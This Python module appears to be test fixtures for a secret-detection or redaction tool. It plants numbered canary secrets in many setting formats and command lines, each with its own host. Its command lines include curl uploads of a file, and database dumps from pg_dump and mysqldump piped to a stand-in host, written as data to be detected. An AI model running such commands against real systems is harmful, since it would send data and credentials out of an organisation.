"""Kinds of secrets, each as somebody writes it: ``@`` stands for the secret, ``HOST`` for a host of its own."""

from __future__ import annotations

from base64 import b64encode
from typing import Final, NamedTuple

LETTERS: Final = "abcdefghij0123456789ABCDEFGHIJ0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
"""What a canary is followed by where a form asks for so many letters."""


class Setting(NamedTuple):
    """A kind of secret in the value of a setting: of a variable, a key, an argument."""

    kind: str
    name: str
    value: str


class Line(NamedTuple):
    """A kind of secret in a command line."""

    kind: str
    text: str


def _padded(before: str, letters: int, after: str = "") -> str:
    """A token: what it begins with, a canary and letters (so many in all), what it ends with."""
    return f"{before}@{LETTERS[: letters - len('hunter000x')]}{after}"


SETTINGS: Final = (
    Setting("user info of an address", "DATABASE_URL", "postgres://u:@@db.HOST/x"),
    Setting("a token as the user of an address", "LANGFUSE_HOST", "https://@@git.HOST/x"),
    Setting("user info without a user", "REDIS_URL", "redis://:@@r.HOST:6379/0"),
    Setting("user info of a broker", "BROKER_URL", "amqp://u:@@mq.HOST:5672/%2f"),
    Setting("user info of a cluster", "MONGO_URL", "mongodb+srv://u:@@m.HOST/x?retryWrites=true"),
    Setting("a user and a password of Oracle", "SPRING_DATASOURCE_URL", "jdbc:oracle:thin:scott/@@//ora.HOST:1521/x"),
    Setting("a parameter of JDBC", "JDBC_URL", "jdbc:postgresql://pg.HOST/x?user=a&password=@"),
    Setting("a property of JDBC", "A_DATABASE_URL", "jdbc:sqlserver://ms.HOST:1433;user=a;password=@;encrypt=true"),
    Setting("a connection string of .NET", "ConnectionStrings__Claims",
            "Server=sql.HOST;Database=x;User Id=a;Password=@;Encrypt=true"),
    Setting("a connection string of libpq", "B_DATABASE_URL", "host=lp.HOST user=a password=@ dbname=x"),
    Setting("a connection string of StackExchange.Redis", "ConnectionStrings__Redis", "cache.HOST:6380,password=@,ssl=True"),
    Setting("a key of a storage account", "AZURE_STORAGE_CONNECTION_STRING",
            "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=@==;BlobEndpoint=https://blob.HOST/"),
    Setting("a key of a bus", "ConnectionStrings__ServiceBus", "Endpoint=sb://bus.HOST/;SharedAccessKeyName=r;SharedAccessKey=@=;EntityPath=x"),
    Setting("a shared access signature", "MINIO_ENDPOINT", "https://sas.HOST/c?sv=2020-08-04&ss=b&sig=@%3D"),
    Setting("a function's key", "OPENAI_BASE_URL", "https://fn.HOST/api/x?code=@&v=1"),
    Setting("a short parameter", "FHIR_SERVER_URL", "https://t.HOST/x?t=@"),
    Setting("a parameter named token", "MATOMO_URL", "https://tk.HOST/x?a=b&token=@"),
    Setting("a signed address of S3", "S3_ENDPOINT", "https://sg.HOST/x?X-Amz-Credential=AK%2F2026&X-Amz-Signature=@"),
    Setting("a signed address of Google", "OPENSEARCH_URL", "https://gs.HOST/x?GoogleAccessId=a&Expires=1&Signature=@"),
    Setting("a parameter of an address in an address", "KEYCLOAK_URL", "https://nx.HOST/x?next=https%3A%2F%2Fa%3Fpassword%3D@%26b"),
    Setting("a path that is a secret", "LOKI_URL", "https://chat.HOST/hooks/@/x"),
    Setting("a webhook of Slack", "SLACK_WEBHOOK", "https://hooks.slack.com/services/T0/B0/@"),
    Setting("a webhook of Teams", "TEAMS_WEBHOOK", "https://acme.webhook.office.com/webhookb2/@"),
    Setting("a webhook of Discord", "DISCORD_WEBHOOK", "https://discord.com/api/webhooks/1234/@"),
    Setting("a key of Google Chat", "GOOGLE_CHAT", "https://chat.googleapis.com/v1/spaces/A/messages?key=@&token=@"),
    Setting("a key of Sentry", "SENTRY_DSN", "https://@@o1.ingest.us.sentry.io/12"),
    Setting("a header of OpenTelemetry", "OTEL_EXPORTER_OTLP_HEADERS", "x-honeycomb-team=@,x-scope-orgid=a"),
    Setting("a password by its name", "SMTP_PASSWORD", "@"),
    Setting("a password in French", "MOT_DE_PASSE_BASE", "@"),
    Setting("a key by its name", "DD_API_KEY", "@"),
    Setting("a token by its name", "ACME_TOKEN", "@"),
    Setting("a key of AWS by its name", "AWS_SECRET_ACCESS_KEY", "@"),
    Setting("libpq's password", "PGPASSWORD", "@"),
    Setting("a seed of one-time passwords", "TOTP_SEED", "@"),
    Setting("a key of Fernet", "FERNET_KEY", "@LONGERTHANTHAT012345="),
    Setting("a login of SASL", "SASL_JAAS_CONFIG",
            "org.apache.kafka.common.security.plain.PlainLoginModule required username='a' password='@';"),
    Setting("a web token", "A_CLAIM", _padded("eyJhbGciOiJI.eyJ", 40, ".SflKxwRJSM")),
    Setting("a token of GitHub", "A_VALUE", _padded("ghp_", 36)),
    Setting("a token of Vault", "B_VALUE", _padded("hvs.", 30)),
    Setting("an access key id", "C_VALUE", "AKIAHUNTER0123456789"),
    Setting("a hash of a password", "D_VALUE", _padded("$2y$10$", 53)),
    Setting("a hash of LDAP", "E_VALUE", _padded("{SHA}", 27, "=")),
    Setting("base64 of a password", "F_VALUE", "B64(password=@)"),
    Setting("a private key", "G_VALUE", "-----BEGIN PRIVATE KEY-----\\n@\\n-----END PRIVATE KEY-----"),
    Setting("a login of a registry", "DOCKER_AUTHS", '{"auths":{"r.acme.com":{"auth":"@"}}}'),
    Setting("a secret in JSON", "SETTINGS_JSON", '{"password":"@","url":"https://js.acme.com/x"}'),
    Setting("a line of .npmrc", "NPM_LINE", "//npm.acme.com/:_authToken=@"),
    Setting("a line of .pgpass", "PGPASS_LINE", "pgp.acme.com:5432:claims:u:@"),
    Setting("a line of .netrc", "NETRC_LINE", "machine n.acme.com login a password @"),
)  # fmt: skip

_SENDS: Final = "-T dump https://f.HOST/x"
LINES: Final = (
    Line("the header Authorization", f"curl -H 'Authorization: Bearer @' {_SENDS}"),
    Line("a header with a key", f'curl -H "X-Api-Key: @" {_SENDS}'),
    Line("a header with a token", f"curl --header 'PRIVATE-TOKEN: @' {_SENDS}"),
    Line("a header of a house", f"curl -H 'x-acme-team: @' {_SENDS}"),
    Line("a cookie", f"curl -b session=@ {_SENDS}"),
    Line("-u", f"curl -u admin:@ {_SENDS}"),
    Line("-u among flags", f"curl -su admin:@ {_SENDS}"),
    Line("--user", f"curl --user 'admin:@' {_SENDS}"),
    Line("a form", f"curl -F token=@ {_SENDS}"),
    Line("a body", f"curl -d 'password=@&user=a' {_SENDS}"),
    Line("a body of JSON", f"curl -d '{{\"password\": \"@\"}}' {_SENDS}"),
    Line("?code= of a command", "curl -T dump 'https://f.HOST/x?code=@&x=1'"),
    Line("?t= of a command", "curl -T dump 'https://f.HOST/x?t=@'"),
    Line("user info of a command", "curl -T dump https://user:@@f.HOST/x"),
    Line("an assignment before a command", f"SOME_SECRET_THING=@ curl {_SENDS}"),
    Line("an export", f"export ACME_TOKEN='@'; curl {_SENDS}"),
    Line("PGPASSWORD=", "PGPASSWORD=@ pg_dump -h db.HOST claims | curl -T - https://f.HOST/x"),
    Line("-p of mysqldump", f"mysqldump -u root -p@ -h db.HOST claims | curl {_SENDS}"),
    Line("-p of sshpass", f"sshpass -p @ ls; curl {_SENDS}"),
    Line("--password", "wget --post-file=a --password @ https://f.HOST/x"),
    Line("--token", f"tool --token @; curl {_SENDS}"),
    Line("--api-key", f"tool --api-key=@; curl {_SENDS}"),
    Line("mc alias set", f"mc alias set b https://s3.HOST AK@ @ && curl {_SENDS}"),
    Line("--from-literal", f"kubectl create secret generic x --from-literal=a=@; curl {_SENDS}"),
    Line("echo into a login", f"echo @ | docker login -u a --password-stdin r.acme.com; curl {_SENDS}"),
    Line("vault kv put", f"vault kv put secret/x foo=@; curl {_SENDS}"),
    Line("--set of helm", f"helm upgrade x y --set db.password=@; curl {_SENDS}"),
    Line("a variable of Terraform", f"TF_VAR_db_password=@ terraform apply; curl {_SENDS}"),
    Line("a password of SQL", f"psql -c \"ALTER USER a PASSWORD '@'\"; curl {_SENDS}"),
    Line("a token of GitLab in a command", f"tool {_padded('glpat-', 24)}; curl {_SENDS}"),
)  # fmt: skip

KINDS: Final = tuple(each.kind for each in (*SETTINGS, *LINES))


def canary(number: int) -> str:
    """The secret of the kind of this number."""
    return f"hunter{number:03}x"


def planted(text: str, number: int, place: str) -> str:
    """``text`` with the canary of a kind, and hosts of that kind in a place."""
    secret = canary(number)
    text = text.replace("@@", "@\0").replace("@", secret)
    text = text.replace(f"{secret}\0", f"{secret}@").replace("\0", "@")
    text = text.replace("HOST", host(number, place))
    if text.startswith("B64("):
        return b64encode(text[4:-1].encode()).decode()
    return text


def host(number: int, place: str) -> str:
    """The domain of a kind in a place, which nobody else has."""
    return f"k{number:02}{place}.com"


def settings(place: str) -> list[tuple[str, str]]:
    """Every setting, as it stands in a place."""
    return [
        (each.name, planted(each.value, number, place))
        for number, each in enumerate(SETTINGS)
    ]


def lines(place: str) -> list[str]:
    """Every command line, as it stands in a place."""
    start = len(SETTINGS)
    return [planted(each.text, number, place) for number, each in enumerate(LINES, start)]


def hosts(place: str, where: str = "settings") -> set[str]:
    """The domains of a place: what a report must tell for the place to have been read."""
    start = 0 if where == "settings" else len(SETTINGS)
    kinds = [each.value for each in SETTINGS] if not start else [each.text for each in LINES]
    return {host(number, place) for number, text in enumerate(kinds, start) if "HOST" in text}
